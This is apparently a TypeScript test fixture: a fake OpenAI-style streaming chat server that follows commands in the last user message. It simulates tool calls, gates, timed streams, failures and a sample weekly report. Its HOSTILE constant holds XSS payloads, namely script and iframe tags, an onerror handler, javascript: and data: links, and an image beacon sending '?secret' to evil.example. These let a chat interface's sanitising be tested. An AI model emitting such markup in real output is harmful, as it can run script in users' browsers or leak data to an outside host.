// A provider that speaks OpenAI's form and does as its last message says, so that a test decides what
// the model does and when:
//
//   `gate NAME`     says half of its answer, and goes on when the gate is opened
//   `calls SxN`     asks for N tool calls in each of S steps
//   `notes Sx GATE` notes in each of S steps that it was called; after the first, behind the gate
//   `stream WxMS`   says W words, one every MS milliseconds
//   `clock WxMS`    says W times what time it is, every MS milliseconds
//   `hostile`       says what a page must not believe
//   `fail`          breaks off
//   `weekly report`, `周报`  looks things up in four steps, and writes one
//   `too long`      ends where its length ends
//
// Anything else it repeats.

import { createServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

export const HALF = "The first half is **here**.";
export const WHOLE = `${HALF}\n\nAnd the second half, with \`code\`, 以及中文。`;

const REPORT_STEPS = 4;
const REPORT = {
  en: `## Week 47

**Progress.** Lease renewal is live: long tool calls are no longer taken for dead workers.

| part | state | days |
|---|---|---|
| queue | done | 3 |
| fork from a checkpoint | in review | 2 |

**Risks.** \`notes/3.md\` could not be read.

**Next week.** Compare forks with their origin, step by step.`,
  zh: `## 第 47 周

**进展：**队列租约续期已上线，长工具调用期间不再被误判。

| 部分 | 状态 | 天数 |
|---|---|---|
| 队列 | 完成 | 3 |
| 从检查点分叉 | 评审中 | 2 |

**风险：**\`notes/3.md\` 无法读取。

**下周计划：**逐步比较分叉与原运行。`,
};

export const HOSTILE = [
  '<script>document.title = "hit"</script>',
  '<img src="https://evil.example/a.png" onerror="document.title = 1">',
  "[click](javascript:document.title=1) [data](data:text/html,<script>1</script>)",
  "![beacon](https://evil.example/b.png?secret)",
  '<iframe src="https://evil.example"></iframe><style>body { display: none }</style>',
  `\`\`\`rust\n${"let a = 1; // ".repeat(80_000)}\n\`\`\``,
  "The end.",
].join("\n\n");

type Message = { role: string; content: unknown };
type Delta = Record<string, unknown>;

export type Model = { url: string; stop: () => void };

export async function startModel(): Promise<Model> {
  const gates = new Map<string, () => void>();
  const opened = new Set<string>();
  const server = createServer(async (request, response) => {
    if (request.url?.startsWith("/gates/")) {
      const name = request.url.slice("/gates/".length);
      opened.add(name);
      gates.get(name)?.();
      return response.end();
    }
    let body = "";
    for await (const chunk of request) body += chunk;
    if (!body) return response.writeHead(404).end();
    const { messages } = JSON.parse(body) as { messages: Message[] };
    const passed = (name: string) =>
      opened.has(name) ? Promise.resolve() : new Promise<void>((pass) => gates.set(name, pass));
    await answer(new Answer(response), messages, passed).catch(() => response.destroy());
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, stop: () => server.close() };
}

/** Opens a gate of the model at this address, before or after somebody waits at it. */
export const openGate = (model: string, name: string) => fetch(`${model}/gates/${name}`);

async function answer(to: Answer, messages: Message[], passed: (gate: string) => Promise<void>) {
  const last = messages.findLastIndex(({ role }) => role === "user");
  const task = taskIn(messages[last]?.content);
  const steps = stepsIn(messages.slice(last));
  const asked = (pattern: RegExp) => pattern.exec(task);

  const gate = asked(/gate ([\w-]+)/)?.[1];
  if (gate && steps === 0) {
    to.say(HALF);
    await passed(gate);
  }
  const calls = asked(/calls (\d+)x(\d+)/);
  if (calls && steps < Number(calls[1])) {
    for (let n = 0; n < Number(calls[2]); n += 1) to.call(n, `s${steps}n${n}`);
    return to.end("tool_calls");
  }
  const notes = asked(/notes (\d+)x ?([\w-]*)/);
  if (notes && steps < Number(notes[1])) {
    if (notes[2] && steps > 0) await passed(notes[2]);
    to.note(`s${steps}n0`);
    return to.end("tool_calls");
  }
  if (asked(/weekly report|周报/)) {
    await new Promise((next) => setTimeout(next, 120 + 60 * steps));
    if (steps < REPORT_STEPS) {
      for (let n = 0; n < 5; n += 1) to.call(n, `s${steps}n${n}`);
      return to.end("tool_calls");
    }
    to.say(asked(/周报/) ? REPORT.zh : REPORT.en);
    return to.end("stop");
  }
  if (gate) {
    to.say(WHOLE.slice(HALF.length));
    return to.end("stop");
  }
  const stream = asked(/stream (\d+)x(\d+)/);
  if (stream) {
    for (let n = 0; n < Number(stream[1]); n += 1) {
      to.say(`word${n} ${n % 12 === 11 ? "\n\n" : ""}`);
      await new Promise((next) => setTimeout(next, Number(stream[2])));
    }
    return to.end("stop");
  }
  const clock = asked(/clock (\d+)x(\d+)/);
  if (clock) {
    const began = Date.now();
    for (let n = 0; n < Number(clock[1]); n += 1) {
      const due = began + n * Number(clock[2]);
      if (due > Date.now()) await new Promise((next) => setTimeout(next, due - Date.now()));
      to.say(`t${Date.now()} ${n % 12 === 11 ? "\n\n" : ""}`);
    }
    return to.end("stop");
  }
  if (asked(/fail/)) return to.breakOff();
  if (asked(/too long/)) {
    to.say("The beginning of");
    return to.end("length");
  }
  to.say(asked(/hostile/) ? HOSTILE : `You said: "${task}"`);
  to.end("stop");
}

/** How many steps of calls there were, by the arguments of the last: of a long run only the end is sent. */
function stepsIn(messages: Message[]): number {
  const step = /s(\d+)n\d+/.exec(
    JSON.stringify(messages.findLast((one) => one.role === "assistant")),
  );
  return step ? Number(step[1]) + 1 : 0;
}

/** What was asked last: questions before it that had no answer stand in the same message, and so do
 * memories and summaries behind it, under headings of their own. */
function taskIn(content: unknown): string {
  const parts = [content].flat() as (string | { text?: string })[];
  const last = parts.at(-1) ?? "";
  const text = typeof last === "string" ? last : (last.text ?? "");
  const [asked = ""] = text.split("\n\n## ");
  return asked.trimEnd().split("\n").at(-1) ?? "";
}

/** An answer in the making, as chunks of a chat completion. */
class Answer {
  constructor(private readonly response: ServerResponse) {
    response.writeHead(200, { "content-type": "text/event-stream" });
  }

  say(content: string) {
    this.chunk({ content });
  }

  call(index: number, id: string) {
    // Every third reads a file that is not there.
    const tool =
      index % 3 === 2
        ? { name: "read_file", arguments: JSON.stringify({ path: `${id}.md` }) }
        : { name: "memory_search", arguments: JSON.stringify({ query: id, top_k: 1 }) };
    this.chunk({ tool_calls: [{ index, id, type: "function", function: tool }] });
  }

  note(id: string) {
    const tool = { name: "journal__note", arguments: JSON.stringify({ id }) };
    this.chunk({ tool_calls: [{ index: 0, id, type: "function", function: tool }] });
  }

  end(finish_reason: string) {
    this.chunk({}, finish_reason);
    const usage = { prompt_tokens: 1200, completion_tokens: 180, total_tokens: 1380 };
    this.write({ choices: [], usage });
    this.response.end("data: [DONE]\n\n");
  }

  breakOff() {
    this.response.destroy();
  }

  private chunk(delta: Delta, finish_reason: string | null = null) {
    this.write({ choices: [{ index: 0, delta, finish_reason }] });
  }

  private write(part: Record<string, unknown>) {
    const head = { id: "x", object: "chat.completion.chunk", model: "test" };
    this.response.write(`data: ${JSON.stringify({ ...head, ...part })}\n\n`);
  }
}
